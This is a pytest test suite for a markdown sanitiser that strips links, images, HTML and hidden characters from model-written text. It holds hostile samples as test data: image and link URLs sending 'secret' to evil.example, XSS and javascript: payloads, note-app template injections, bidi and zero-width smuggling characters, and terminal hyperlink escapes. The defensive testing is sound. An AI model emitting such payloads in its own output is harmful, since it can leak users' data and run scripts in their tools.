"""What a model writes is shown as words: nothing in it links, loads, runs or hides."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from flowstory.providers import sanitise_markdown

NASTY = [
    ("[the lamp](https://evil.example/?q=secret)", "the lamp"),
    ("![x](https://evil.example/p.png?d=secret)", "x"),
    ("![[Secret note]] and [[Note|the note]]", "Secret note and the note"),
    ("[click][1]\n\n[1]: https://evil.example", "click\n\n"),
    ("[run](command:workbench.action.terminal.new)", "run"),
    ("<img src=x onerror=alert(1)>after", "after"),
    ("<script>alert(1)</script>", "alert(1)"),
    ("<https://evil.example>", ""),
    ("see https://evil.example/a?b=c for more", "see … for more"),
    ("see WWW.evil.example now", "see … now"),
    ("write to a.b@evil.example now", "write to … now"),
    ("javascript:alert(1)", "…)"),
    ("obsidian://open?vault=x", "…"),
    ("```dataviewjs\ndv.io.load('x')\n```\n", "dv.io.load('x')\n"),
    ("`= this.file`", "= this.file"),
    ("<% tp.system.clipboard() %>", " tp.system.clipboard() %>"),
    ("{{{title}}}", "{title}"),
    ("\\[the lamp\\](https://evil.example)", "the lamp"),
    ("[a [b](https://evil.example) c](https://evil.example)", "a b c"),
    ("h\u200bttps://evil.example", "…"),
    ("a\u202eb\u2066c\U000e0041d", "abcd"),
    ("$\\href{javascript:alert(1)}{x}$", "$href{…{x}$"),
    ("%% hidden %%", "% hidden %"),
    ("\x1b]8;;https://evil.example\x07here", "]8;;…"),
    ("---\nscript: x\n---\nText", "script: x\n---\nText"),
]


@pytest.mark.parametrize(("given_text", "left"), NASTY)
def test_what_does_something_is_gone(given_text: str, left: str) -> None:
    said = sanitise_markdown(given_text)
    assert "evil" not in said
    if "]8;;" not in left and "href" not in left and "tp.system" not in left:
        assert said == left


@pytest.mark.parametrize(
    "text",
    [
        "**Nesta** *knew* it.\n\n- the lamp\n- the door\n\n1. first\n\n> quoted\n\n## Scene 2\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        "“Don’t,” she said — “not now…” It cost £5 & 10% more; 3 > 2.",
        "Ele disse: “não”. À noite, a água — fria.",
        "obsidian: the black stone; tel: the hill.",
    ],
)
def test_words_and_emphasis_stay(text: str) -> None:
    assert sanitise_markdown(text) == text


def test_a_task_list_is_a_list() -> None:
    assert sanitise_markdown("- [ ] check the lamp\n- [x] done") == "- check the lamp\n- done"


SCRAPS = (
    *[
        "[",
        "]",
        "(",
        ")",
        "!",
        "<",
        ">",
        "`",
        "```",
        "~~~",
        "\\",
        "://",
        "http",
        "https://e.x",
        "www.",
        "a@b.c",
        "[a](",
        "b)",
        "[[",
        "]]",
        "{{",
        "%%",
    ],
    *["javascript:", "<!--", "-->", "&lt;", "[1]:x"],
    *("\n", ": ", "<a href=x>", "\u200b", "\u202e"),
)
PIECES = st.lists(st.one_of(st.sampled_from(SCRAPS), st.text(max_size=4)), max_size=25).map("".join)


@given(PIECES)
def test_no_markdown_of_any_kind_survives(text: str) -> None:
    said = sanitise_markdown(text)
    assert sanitise_markdown(said) == said
    tokens = [
        inner
        for token in MarkdownIt("gfm-like", {"linkify": False, "html": True}).parse(said)
        for inner in (token, *(token.children or ()))
    ]
    kinds = {token.type for token in tokens}
    assert not kinds & {"link_open", "image", "html_block", "html_inline", "code_inline", "fence"}
    assert not re.search(r"(?i)https?://|(?<![a-z])(?:javascript:\S|www\.\S)|<[a-z/!?]|\[|\]\(", said)
    assert not re.search("[\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff\x00-\x08]", said)


@pytest.mark.parametrize(
    "piece",
    [
        "[",
        "](x)",
        "![[",
        "<",
        "<a",
        "a",
        "a.",
        "a@",
        "`",
        "(",
        "[a](",
        "\\[",
        "http:",
        "{{",
        "%%",
        "\n- [ ] ",
    ],
)
def test_no_model_can_keep_us_busy(piece: str) -> None:
    start = time.monotonic()
    sanitise_markdown(piece * (200_000 // len(piece)))
    sanitise_markdown("[" * 60_000 + "](x)" * 30_000)
    assert time.monotonic() - start < 10
